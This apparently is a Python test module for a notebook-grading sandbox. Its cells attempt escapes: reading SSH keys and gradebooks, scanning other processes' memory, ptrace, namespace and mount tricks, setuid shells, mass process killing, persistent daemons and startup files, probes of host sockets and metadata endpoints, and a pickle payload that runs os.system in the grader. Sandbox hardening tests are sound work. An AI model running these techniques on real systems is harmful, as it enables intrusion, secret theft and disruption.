"""Out of the sandbox: to read what is not the student's, to reach others, to change or outlive anything.

Where the source says @WORK@, @ROOT@, @SECRETS@, @PORT@, @ABSTRACT@ or @PID@, the runner puts the real places: whoever
attacks knows them. A line `ESCAPED: ...` on stdout says that an attempt succeeded; none may appear. Every attempt is a
cell beside honest answers, which keep their points.
"""

from __future__ import annotations

from attacks.cases import Case
from attacks.edits import FULL, answer, cell, family, last_cell

CASES: list[Case] = []
case = family(CASES, "escape")

TRY = """
import ctypes, glob, os, re, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)

def attempt(what, function, *arguments):
    try:
        found = function(*arguments)
    except (OSError, ValueError, OverflowError, subprocess.SubprocessError):
        return None
    if found not in (None, False, -1, b"", "", []):
        print(f"ESCAPED: {what}: {found!r}"[:500])
    return found

def call(name, *arguments):
    "The result of a system call, or None where it failed."
    result = getattr(libc, name)(*arguments)
    return None if result == -1 else f"{name} worked"

def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)

def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]
"""


# --- reading ----------------------------------------------------------------------------------------------------------


@case("solutions, rubrics, the gradebook, records and other work by path")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for base in ("@ROOT@", "@WORK@", "@SECRETS@", os.path.expanduser("~"), os.getcwd()):
    for path in glob.glob(base + "/**", recursive=True, include_hidden=True)[:20_000]:
        name = os.path.basename(path)
        if "@SECRETS@" in path or re.search("gradebook|rubric|solution|submitted|records|id_rsa|autograded", path):
            if os.path.isfile(path) and "site-packages" not in path:
                attempt(path, read, path)
for name in ("solutions", "grader/rubrics", "submitted", "gradebook.db", ".git"):
    for place in ("@ROOT@", "@WORK@"):
        attempt(name, lambda: os.path.exists(f"{place}/{name}"))
for module in ("grader", "grader.rubrics", "nbgrader_config"):
    try:
        __import__(module)
        print("ESCAPED: imported", module)
    except ImportError:
        pass
""",
    )


@case("the same through /proc and inherited descriptors")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for pid in [*pids(), "self", @PID@, os.getppid()]:
    for way in ("root", "cwd", "task/../root"):
        for path in ("@SECRETS@/.ssh/id_rsa", "@WORK@/gradebook.db", "@ROOT@/grader/rubrics/week01_toy/checks/mean.py"):
            attempt(path, read, f"/proc/{pid}/{way}{path}")
for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/tmp", "/home/student", "/usr")):
        print("ESCAPED: descriptor", name, target)
    attempt(f"through descriptor {name}", os.open, "../../../../@SECRETS@/.ssh/id_rsa", os.O_RDONLY, 0o600)
    for path in ("..", "../..", "@SECRETS@"):
        try:
            inside = os.open(path, os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(name))
        except OSError:
            continue
        if any(secret in os.listdir(inside) for secret in ("gradebook.db", ".ssh", "solutions", "boot")):
            print("ESCAPED: folder by descriptor", name)
attempt("the kernel's memory", read, "/proc/kcore")
""",
    )


@case("environments of all processes, and what memory holds")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
secret = re.compile(b"CANARY-[0-9a-f]{4,}")
def search(path):
    return secret.findall(read(path))
def scan(pid):
    found = []
    for line in open(f"/proc/{pid}/maps"):
        span = re.match("([0-9a-f]+)-([0-9a-f]+) r", line)
        if span and "[v" not in line:
            begin, end = (int(part, 16) for part in span.groups())
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(begin)
                    found += secret.findall(memory.read(end - begin) or b"")
            except (OSError, ValueError, OverflowError):
                pass
    return found
attempt("memory of its own", scan, os.getpid())
for pid in [*pids(), @PID@]:
    for name in ("environ", "cmdline", "maps", "stack", "auxv"):
        attempt(f"{name} of {pid}", search, f"/proc/{pid}/{name}")
for pid in set(pids()) - {os.getpid()}:
    attempt(f"memory of {pid}", scan, pid)
""",
    )


@case("other processes traced and their memory read")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
local, remote = ctypes.create_string_buffer(16), 0x400000
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
mine = {os.getpid()}
for pid in {@PID@, os.getppid() or -5, *range(4, 400)} - mine - set(pids()):
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        attempt(f"trace {pid}", call, "ptrace", request, pid, 0, 0)
    here, there = Span(ctypes.addressof(local), 16), Span(remote, 16)
    attempt(f"read {pid}", call, "process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    attempt(f"open {pid}", os.pidfd_open, pid)
if set(pids()) - mine - {1, 2}:
    print("ESCAPED: other processes are seen:", pids())
""",
    )


@case("a terminal made to type")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import fcntl, termios
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/proc/1/fd/0", "/proc/2/fd/0"):
    def push():
        fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b"x")
        return "typed"
    attempt(path, push)
""",
    )


# --- getting out and up -----------------------------------------------------------------------------------------------


@case("namespaces joined, mounts made, roots changed")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
for flags in (NEWUSER, NEWNS, NEWPID, NEWNET, NEWUSER | NEWNS):
    attempt("unshare", call, "unshare", flags)
for pid in (1, 2, @PID@):
    for name in ("mnt", "user", "pid", "net", "cgroup", "ipc"):
        attempt("setns", lambda: call("setns", os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0))
attempt("chroot", lambda: os.chroot("/tmp") or "done")
attempt("pivot_root", lambda: None if libc.syscall(155, b"/tmp", b"/tmp") else "done")
for source, target, kind, flags in (
    (b"/usr", b"/tmp", None, 4096), (b"proc", b"/tmp", b"proc", 0), (b"tmpfs", b"/usr", b"tmpfs", 0),
    (None, b"/", None, 32), (None, b"/usr", None, 32 | 4096), (b"/dev/vda", b"/tmp", b"ext4", 0),
    (b"overlay", b"/tmp", b"overlay", 0), (b"cgroup", b"/tmp", b"cgroup2", 0),
):
    attempt("mount", call, "mount", source, target, kind, flags, None)
for path in (b"/proc", b"/tmp", b"/home/student", b"/etc/passwd"):
    attempt("umount", call, "umount2", path, 2)
os.makedirs("/tmp/a/b", exist_ok=True)
attempt("a new user namespace by unshare(1)", lambda: subprocess.run(["unshare", "-Urm", "id"], capture_output=True,
        timeout=3).stdout)
inner = ["bwrap", "--bind", "/", "/", "cat", "@SECRETS@/.ssh/id_rsa"]
attempt("a sandbox in the sandbox", lambda: subprocess.run(inner, capture_output=True, timeout=3).stdout)
attempt("clone", lambda: None if libc.syscall(56, NEWUSER | 17, 0, 0, 0, 0) == -1 else "done")
""",
    )


@case("setuid programs, su, sudo and capabilities")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["pkexec", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"],
                ["newgrp", "root"], ["chsh"], ["passwd", "-d", "root"], ["setcap", "all+ep", "/bin/sh"]):
    attempt(command, lambda: "worked" if subprocess.run(command, capture_output=True, timeout=3,
            stdin=subprocess.DEVNULL).returncode == 0 else None)
for name, argument in (("setuid", 0), ("setgid", 0), ("seteuid", 0)):
    attempt(name, call, name, argument)
attempt("setgroups", lambda: os.setgroups([0]) or "done")
with open("/tmp/suid", "wb") as file:
    file.write(read("/bin/sh"))
os.chmod("/tmp/suid", 0o6755)
attempt("chown", lambda: os.chown("/tmp/suid", 0, 0) or "done")
if os.getuid() == 0 or os.geteuid() == 0:
    print("ESCAPED: root inside")
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
if any(int(status[name], 16) for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb")):
    print("ESCAPED: capabilities", status)
if status["NoNewPrivs"].strip() != "1":
    print("ESCAPED: privileges may be gained")
""",
    )


@case("the sandbox's sockets replaced by links to the host's")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for path in glob.glob("/run/kernel/*"):
    def replace():
        os.rename(path, path + "-old")
        os.symlink("@SECRETS@/listen.sock", path)
        return "replaced"
    attempt(path, replace)
    attempt(path, lambda: os.unlink(path) or "unlinked")
attempt("link", lambda: os.symlink("@SECRETS@/listen.sock", "/run/kernel/k-9") or "linked")
attempt("folder", lambda: os.rename("/run/kernel", "/run/other") or "renamed")
for name in os.listdir("/proc/self/fd"):  # break the connections, so that they are made again
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            one = socket.socket(fileno=os.dup(int(name)))
            if str(one.getsockname()).startswith("/run/kernel") and not one.getsockopt(1, socket.SO_ACCEPTCONN):
                one.shutdown(2)
    except OSError:
        pass
""",
    )


@case("devices, modules and interfaces of the system's own kernel")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import stat
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm",
             "/dev/net/tun", "/dev/loop0", "/dev/dri/card0", "/sys/kernel/debug"):
    attempt(path, lambda: os.open(path, os.O_RDONLY))
for number, device in ((8, 0), (254, 0), (1, 1)):
    attempt("mknod", lambda: os.mknod(f"/tmp/d{number}", 0o600 | stat.S_IFBLK, os.makedev(number, device)) or "made")
for number in (321, 298, 323, 425, 175, 313, 246, 103):  # bpf, perf, userfaultfd, io_uring, modules, kexec, syslog
    attempt(f"system call {number}", lambda: None if libc.syscall(number, 0, 0, 0, 0, 0) == -1 else "worked")
""",
    )


# --- changing ---------------------------------------------------------------------------------------------------------


@case("the system, the course and the settings of the machine written to")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
def write(path):
    with open(path, "ab") as file:
        file.write(b"x")
    return "written"
import coursekit, toy_lab
kit, lab = os.path.dirname(coursekit.__file__), os.path.dirname(toy_lab.__file__)
places = ["@ROOT@/weeks/course.toml", "@WORK@/gradebook.db", "@WORK@/records/week01_toy/ada.json", "/evil", "/dev/evil",
          "@SECRETS@/.ssh/id_rsa", "@ROOT@/grader/rubrics/week01_toy/checks/mean.py",
          "/etc/passwd", "/etc/hosts", "/usr/bin/evil", sys.prefix + "/evil.pth",
          kit + "/checks.py", lab + "/points.json", lab + "/checks/__init__.py",
          os.__file__, ctypes.__file__]
settings = ["/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory",
            "/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/2/oom_score_adj", "/proc/irq/default_smp_affinity",
            "/sys/fs/cgroup/cgroup.procs", "/proc/self/uid_map", "/proc/1/mem", "/proc/@PID@/oom_score_adj"]
for path in places:
    attempt(path, write, path)
    attempt(path, lambda: os.unlink(path) or "unlinked")
    attempt(path, lambda: os.rename(path, "/tmp/mine") or "moved")
for path in settings[:5] + settings[6:]:
    attempt(path, lambda: os.access(path, os.W_OK) and "oom" not in path and open(path, "ab", 0).write(b"1"))
attempt("less likely to be killed", lambda: open("/proc/self/oom_score_adj", "w").write("-900") and
        open("/proc/self/oom_score_adj").read().startswith("-900") and "done")
""",
    )


@case("every process it can name killed, stopped and starved")
def _(notebook):
    return last_cell(
        notebook,
        TRY
        + """
for pid in (@PID@, os.getppid() or 10**6, *range(3, 300)):
    if pid != os.getpid():
        attempt(f"priority of {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) or f"set of {pid}")
        for signum in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            attempt(f"signal to {pid}", lambda: os.kill(pid, signum) or f"{signum} sent")
for pid in (2, 1):  # those that hold the sandbox: its end is this notebook's own
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, signum)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGTERM)
finally:
    os.kill(-1, signal.SIGKILL)
""",
    )


@case("daemons that outlive the notebook")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
code = '''import os, time
# xm-daemon @ABSTRACT@
time.sleep(6)
for path in ("@SECRETS@/daemon", "@WORK@/daemon", "/tmp/daemon"):
    try:
        open(path, "w").write("alive")
    except OSError:
        pass
time.sleep(60)'''
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for name in range(3, 256):
                try:
                    os.close(name)
                except OSError:
                    pass
            for signum in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(signum, signal.SIG_IGN)
            os.execvp("python3", ["python3", "-c", code])
        os._exit(0)
subprocess.Popen(["nohup", "sleep", "64.25"], start_new_session=True)
""",
    )


# --- network and neighbours -------------------------------------------------------------------------------------------


@case("this machine's ports, names, the internet, raw packets")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
socket.setdefaulttimeout(0.3)
def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.connect(address)
        return one.recv(100) or "connected"
for host in ("127.0.0.1", "127.0.1.1", "0.0.0.0", "10.0.0.1", "172.17.0.1", "169.254.169.254", "1.1.1.1"):
    for port in (@PORT@, 22, 80):
        attempt(f"{host}:{port}", connect, socket.AF_INET, (host, port))
for host in ("::1", "fe80::1%lo", "2606:4700:4700::1111"):
    attempt(host, connect, socket.AF_INET6, (host, @PORT@))
attempt("a name", socket.getaddrinfo, "example.org", 80)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    attempt("a packet", one.sendto, b"x", ("1.1.1.1", 53))
for kind in (socket.SOCK_RAW, socket.SOCK_PACKET):
    attempt("raw", lambda: socket.socket(socket.AF_INET, kind, 1).fileno())
attempt("packets", lambda: socket.socket(17, socket.SOCK_RAW).fileno())
attempt("the hypervisor", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno())
import urllib.request
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.3).read())
""",
    )


@case("sockets of the host by name, abstract and in files")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
def connect(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.5)
        one.connect(address)
        return one.recv(100) or "connected"
names = [line.split()[-1] for line in open("/proc/net/unix") if line.split()[-1].startswith("@")]
for name in ["@@ABSTRACT@", *names]:
    if not name.startswith("@/"):
        attempt(name, connect, "\\0" + name[1:])
for path in ("@SECRETS@/listen.sock", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/user/0/bus", "/run/containerd/containerd.sock"):
    attempt(path, connect, path)
""",
    )


NOTES = """
KEY, NOTE = 0x584D4E4F, f"note-{os.urandom(4).hex()}".encode()
PLACES = ["/tmp/xm-note", "/var/tmp/xm-note", "/dev/shm/xm-note", "/run/kernel/xm-note", "/run/xm-note",
          "~/xm-note", "~/.cache/huggingface/xm-note", "~/.config/matplotlib/xm-note",
          "~/.ipython/profile_default/startup/00-note.py", os.path.dirname(os.__file__) + "/xm-note", "xm-note"]
PLACES = [os.path.expanduser(path) for path in PLACES]
libc.shmat.restype = ctypes.c_void_p

def foreign(text):
    return text if text and text.startswith(b"note-") and not text.startswith(NOTE) else None

def by_key(create):
    number = libc.shmget(KEY, 4096, 0o1666 if create else 0)  # IPC_CREAT and for all
    if number == -1:
        return None
    where = libc.shmat(number, None, 0)
    if create:
        ctypes.memmove(where, NOTE, len(NOTE))
    return foreign(ctypes.string_at(where, 13))

def by_keyring(ring, create):
    if create:
        return libc.syscall(248, b"user", b"xm-note", NOTE, len(NOTE), ring) and None
    number, text = libc.syscall(250, 10, ring, b"user", b"xm-note", 0), ctypes.create_string_buffer(64)
    return foreign(text.value) if number != -1 and libc.syscall(250, 11, number, text, 64) != -1 else None

def by_port(create):
    with socket.socket() as one:
        one.settimeout(0.2)
        one.connect(("127.0.0.1", 47117))
        return foreign(one.recv(100))

def serve():
    for family, address in ((socket.AF_INET, ("127.0.0.1", 47117)), (socket.AF_UNIX, "\\0xm-note")):
        one = socket.socket(family)
        one.bind(address)
        one.listen()
        def answer(one=one):
            while True:
                one.accept()[0].sendall(NOTE)
        threading.Thread(target=answer, daemon=True).start()

import threading
def note(path):
    if not os.path.exists(path):
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "wb") as file:
            file.write(NOTE)
for path in PLACES:  # first look, then leave one's own
    attempt(path, lambda: foreign(read(path)))
    attempt("", note, path)
rings = (-3, -4, -5)  # session, user, user session
for ring in rings:
    attempt(f"keyring {ring}", by_keyring, ring, False)
    by_keyring(ring, True)
attempt("System V", by_key, False)
attempt("", by_key, True)
attempt("listening", serve)
until = time.monotonic() + 2.5
while time.monotonic() < until:
    for path in PLACES:
        attempt(path, lambda: foreign(read(path)))
    for ring in rings:
        attempt(f"keyring {ring}", by_keyring, ring, False)
    attempt("System V", by_key, False)
    attempt("a port", by_port, False)
    time.sleep(0.1)
"""


@case("a note for another submission: files, memory, keys, ports (one)")
@case("a note for another submission: files, memory, keys, ports (two)")
@case("a note for another submission: files, memory, keys, ports (three)")
def _(notebook):
    return cell(notebook, TRY + NOTES)


@case("start-up files and caches laid for the next kernel")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import builtins, site
if hasattr(builtins, "laid"):
    print("ESCAPED: a start-up file of an earlier kernel ran")
code = "import builtins; builtins.laid = True"
for path in ("~/.ipython/profile_default/startup/00.py", "~/.ipython/profile_default/ipython_config.py",
             site.getusersitepackages() + "/usercustomize.py", site.getusersitepackages() + "/evil.pth",
             "~/.config/matplotlib/matplotlibrc", "/tmp/sitecustomize.py", "sitecustomize.py", "numpy.py"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write(code)
    except OSError:
        pass
sys.path.insert(0, "/tmp")
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
os._exit(3)
""",
    )


@case("the judge's own process through answers: pickles, paths, templates")
def _(notebook):
    return answer(
        cell(
            notebook,
            """
            import json, pickle
            class Runs:
                def __reduce__(self):
                    import os
                    return os.system, ("touch @SECRETS@/run-by-the-grader",)
            payload = pickle.dumps(Runs())
            from IPython.display import display
            display({"text/html": "<img src='file://@SECRETS@/.ssh/id_rsa'>{{ 7 * 7 }}", "text/latex": payload.hex()},
                    raw=True, metadata={"../../@SECRETS@/run-by-the-grader": payload.hex()})
            """,
        ),
        table="table = [2, 4, 6]\nRuns.__name__ = '../../run-by-the-grader'\nspare = Runs()",
    )


@case("the kernel's own connection file and key used from within")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import json
from jupyter_client import BlockingKernelClient
for path in glob.glob("/run/kernel/*.json") + glob.glob("/tmp/xm-*/**", recursive=True) + glob.glob("/tmp/**/*.json"):
    told = json.loads(read(path)) if path.endswith(".json") else {}
    if told and not told.get("ip", "").startswith("/run/kernel"):
        print("ESCAPED: a way to another kernel", path)
for pid in pids():
    if pid not in (1, 2, os.getpid()):
        print("ESCAPED: a process of others", pid)
attempt("another's sockets", lambda: [p for p in glob.glob("/proc/*/root/run/kernel/k*")
        if not p.startswith(("/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}/", "/proc/1/", "/proc/2/"))])
""",
    )


assert all(one.expect.points is FULL for one in CASES)
